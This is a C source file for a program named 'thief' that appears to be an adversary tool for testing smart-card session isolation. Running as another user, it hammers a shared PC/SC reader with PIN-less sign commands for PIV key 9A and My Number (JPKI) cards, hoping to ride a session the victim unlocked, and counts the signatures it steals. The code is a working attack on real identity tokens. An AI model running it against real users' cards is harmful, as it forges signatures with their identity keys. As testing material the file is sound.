/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Another program at the same reader, by direct PC/SC, run as another user.
 *
 *   thief sign KIND [MIN MAX]     tries to sign with the key for the login
 *                                 without a PIN, again and again, with pauses
 *                                 of MIN to MAX ms
 *   thief die KIND [MIN MAX]      the same, and each try dies inside its
 *                                 transaction
 *   thief verify KIND PIN         a careless program: VERIFY, and away
 *
 * KIND is rsa or ec, of a PIV card's key 9A, or jpki, of a My Number card.
 * sign and die go on until SIGTERM or SIGINT and then print
 * "tries=N signed=N refused=N errors=N": what was signed was stolen.
 */
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <winscard.h>

#define RSA_LEN 256
#define EC_LEN  32
#define READERS 4096
#define MS      1000000L
#define SECOND  1000000000L
#define BUSY    1
#define ANSWER  4096
#define PIN_LEN 8
#define PIN_MAX 16

/* How a kind of card is robbed. */
struct kind {
	const char *name;
	unsigned (*select)(SCARDHANDLE card);
	unsigned (*sign)(SCARDHANDLE card);
	unsigned (*verify)(SCARDHANDLE card, const char *pin);
};

struct counts {
	unsigned long tries;
	unsigned long signed_;
	unsigned long refused;
	unsigned long errors;
};

struct plan {
	bool dies;
	const struct kind *kind;
	long min_ms, max_ms;
	struct counts *counts; /* shared with the parent */
};

/* The first card; false when there is none, or no pcscd for us. */
static bool
connect_card(SCARDCONTEXT *context, SCARDHANDLE *ret)
{
	char names[READERS];
	DWORD size = sizeof(names), protocol;

	if (SCardListReaders(*context, NULL, names, &size) != SCARD_S_SUCCESS)
		return false;
	for (const char *name = names; *name != '\0'; name += strlen(name) + 1)
		if (SCardConnect(*context, name, SCARD_SHARE_SHARED,
		        SCARD_PROTOCOL_T0 | SCARD_PROTOCOL_T1, ret,
		        &protocol) == SCARD_S_SUCCESS)
			return true;
	return false;
}

/* The status word, BUSY while another has the card, or 0. */
static unsigned
transmit(SCARDHANDLE card, const unsigned char *command, size_t len)
{
	unsigned char answer[ANSWER];
	DWORD n = sizeof(answer);
	LONG code =
	    SCardTransmit(card, SCARD_PCI_T1, command, len, NULL, answer, &n);

	if (code == SCARD_E_SHARING_VIOLATION)
		return BUSY;
	if (code != SCARD_S_SUCCESS || n < 2)
		return 0;
	return (unsigned)(answer[n - 2] << 8 | answer[n - 1]);
}

static unsigned
select_piv(SCARDHANDLE card)
{
	static const unsigned char command[] = { 0x00, 0xa4, 0x04, 0x00, 0x09,
		0xa0, 0x00, 0x00, 0x03, 0x08, 0x00, 0x00, 0x10, 0x00, 0x00 };

	return transmit(card, command, sizeof(command));
}

static unsigned
sign_rsa(SCARDHANDLE card)
{
	static const unsigned char head[] = { 0x00, 0x87, 0x07, 0x9a, 0x00,
		0x01, 0x0a, 0x7c, 0x82, 0x01, 0x06, 0x82, 0x00, 0x81, 0x82,
		0x01, 0x00, 0x00, 0x01 };
	unsigned char command[sizeof(head) + RSA_LEN];

	memset(command, 0xff, sizeof(command));
	memcpy(command, head, sizeof(head));
	/* The block's first two bytes are in the head; Le is two zeros. */
	memset(command + sizeof(head) + RSA_LEN - 2, 0, 2);
	return transmit(card, command, sizeof(command));
}

static unsigned
sign_ec(SCARDHANDLE card)
{
	static const unsigned char head[] = { 0x00, 0x87, 0x11, 0x9a, 0x26,
		0x7c, 0x24, 0x82, 0x00, 0x81, 0x20 };
	unsigned char command[sizeof(head) + EC_LEN + 1] = { 0 };

	memcpy(command, head, sizeof(head));
	return transmit(card, command, sizeof(command));
}

static unsigned
verify_piv(SCARDHANDLE card, const char *pin)
{
	unsigned char command[5 + PIN_LEN] = { 0x00, 0x20, 0x00, 0x80, PIN_LEN,
		0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };

	if (strlen(pin) > PIN_LEN)
		return 0;
	memcpy(command + 5, pin, strlen(pin));
	return transmit(card, command, sizeof(command));
}

static unsigned
select_jpki(SCARDHANDLE card)
{
	static const unsigned char command[] = { 0x00, 0xa4, 0x04, 0x0c, 0x0a,
		0xd3, 0x92, 0xf0, 0x00, 0x26, 0x01, 0x00, 0x00, 0x00, 0x01 };

	return transmit(card, command, sizeof(command));
}

static unsigned
select_file(SCARDHANDLE card, unsigned char file)
{
	const unsigned char command[] = { 0x00, 0xa4, 0x02, 0x0c, 0x02, 0x00,
		file };

	return transmit(card, command, sizeof(command));
}

static unsigned
sign_jpki(SCARDHANDLE card)
{
	static const unsigned char head[] = { 0x80, 0x2a, 0x00, 0x80, 0x33,
		0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01,
		0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20 };
	unsigned char command[sizeof(head) + EC_LEN + 1] = { 0 };
	unsigned sw = select_file(card, 0x17);

	memcpy(command, head, sizeof(head));
	return sw == 0x9000 ? transmit(card, command, sizeof(command)) : sw;
}

static unsigned
verify_jpki(SCARDHANDLE card, const char *pin)
{
	unsigned char command[5 + PIN_MAX] = { 0x00, 0x20, 0x00, 0x80 };
	const size_t len = strlen(pin);

	if (len > PIN_MAX || select_file(card, 0x18) != 0x9000)
		return 0;
	command[4] = (unsigned char)len;
	memcpy(command + 5, pin, len);
	return transmit(card, command, 5 + len);
}

static const struct kind kinds[] = {
	{ "rsa", select_piv, sign_rsa, verify_piv },
	{ "ec", select_piv, sign_ec, verify_piv },
	{ "jpki", select_jpki, sign_jpki, verify_jpki },
};

static const struct kind *
find_kind(const char *name)
{
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (strcmp(kinds[i].name, name) == 0)
			return &kinds[i];
	return NULL;
}

static bool
is_signature(unsigned sw)
{
	return sw == 0x9000 || sw >> 8 == 0x61;
}

static void
count(struct counts *c, unsigned sw)
{
	c->tries++;
	if (is_signature(sw))
		c->signed_++;
	else if (sw != 0)
		c->refused++;
	else
		c->errors++;
}

/* Who comes after the victim finds the application selected, or selects. */
static unsigned
steal(SCARDHANDLE card, const struct kind *kind)
{
	unsigned sw = kind->sign(card);

	if (sw != 0 && sw != BUSY && !is_signature(sw) &&
	    kind->select(card) == 0x9000)
		sw = kind->sign(card);
	return sw;
}

/* false: the connection is of no use any more. */
static bool
try_once(const struct plan *p, SCARDHANDLE card)
{
	/*
	 * Some programs lock the card, some do not. Those that do wait 100 ms
	 * each time it is locked, so they get fewer chances.
	 */
	bool locks = p->dies || p->counts->tries % 8 == 0;
	unsigned sw = 0;

	if (locks && SCardBeginTransaction(card) != SCARD_S_SUCCESS) {
		count(p->counts, 0);
		return false;
	}
	sw = steal(card, p->kind);
	count(p->counts, sw);
	if (p->dies)
		_exit(0);
	if (locks)
		(void)SCardEndTransaction(card, SCARD_LEAVE_CARD);
	return sw != 0;
}

static void
pause_between(const struct plan *p)
{
	struct timespec t = { 0 };
	long ns = p->min_ms * MS;

	if (p->max_ms > p->min_ms)
		ns += random() % ((p->max_ms - p->min_ms) * MS);
	t.tv_sec = ns / SECOND;
	t.tv_nsec = ns % SECOND;
	if (ns > 0)
		(void)nanosleep(&t, NULL);
}

/* One connection, for as long as it lasts. */
static void
use_card(const struct plan *p)
{
	SCARDCONTEXT context;
	SCARDHANDLE card;
	bool good;

	if (SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &context) !=
	    SCARD_S_SUCCESS) {
		count(p->counts, 0);
		return;
	}
	good = connect_card(&context, &card);
	if (!good)
		count(p->counts, 0);
	while (good) {
		good = try_once(p, card);
		pause_between(p);
	}
	(void)SCardReleaseContext(context);
}

/* In a child: what hangs in pcscd can be killed. Never returns. */
static void
work(const struct plan *p)
{
	srandom((unsigned)getpid());
	for (;;) {
		pause_between(p);
		use_card(p);
	}
}

static pid_t
start(const struct plan *p, const sigset_t *before)
{
	pid_t pid = fork();

	if (pid != 0)
		return pid;
	(void)sigprocmask(SIG_SETMASK, before, NULL);
	work(p);
	_exit(0);
}

static int
hammer(struct plan *p)
{
	sigset_t set, before;
	pid_t child;
	int signal;

	p->counts = mmap(NULL, sizeof(*p->counts), PROT_READ | PROT_WRITE,
	    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (p->counts == MAP_FAILED)
		return EXIT_FAILURE;
	(void)sigemptyset(&set);
	(void)sigaddset(&set, SIGTERM);
	(void)sigaddset(&set, SIGINT);
	(void)sigaddset(&set, SIGCHLD);
	(void)sigprocmask(SIG_BLOCK, &set, &before);
	do {
		child = start(p, &before);
		if (child < 0 || sigwait(&set, &signal) != 0)
			return EXIT_FAILURE;
		if (signal != SIGCHLD)
			(void)kill(child, SIGKILL);
		(void)waitpid(child, NULL, 0);
	} while (signal == SIGCHLD);
	printf("tries=%lu signed=%lu refused=%lu errors=%lu\n",
	    p->counts->tries, p->counts->signed_, p->counts->refused,
	    p->counts->errors);
	return EXIT_SUCCESS;
}

static int
verify(const struct kind *kind, const char *pin)
{
	SCARDCONTEXT context;
	SCARDHANDLE card;

	if (SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &context) !=
	        SCARD_S_SUCCESS ||
	    !connect_card(&context, &card) ||
	    SCardBeginTransaction(card) != SCARD_S_SUCCESS ||
	    kind->select(card) != 0x9000 || kind->verify(card, pin) != 0x9000)
		return EXIT_FAILURE;
	(void)SCardEndTransaction(card, SCARD_LEAVE_CARD);
	(void)SCardDisconnect(card, SCARD_LEAVE_CARD);
	(void)SCardReleaseContext(context);
	return EXIT_SUCCESS;
}

int
main(int argc, char **argv)
{
	struct plan p = { 0 };

	if (argc > 2)
		p.kind = find_kind(argv[2]);
	if (p.kind != NULL && argc == 4 && strcmp(argv[1], "verify") == 0)
		return verify(p.kind, argv[3]);
	if (p.kind == NULL || (argc != 3 && argc != 5) ||
	    (strcmp(argv[1], "sign") != 0 && strcmp(argv[1], "die") != 0)) {
		fputs("usage: thief sign|die rsa|ec|jpki [MIN MAX]\n"
		      "       thief verify rsa|ec|jpki PIN\n",
		    stderr);
		return 2;
	}
	p.dies = strcmp(argv[1], "die") == 0;
	if (argc == 5) {
		p.min_ms = atol(argv[3]);
		p.max_ms = atol(argv[4]);
	}
	return hammer(&p);
}
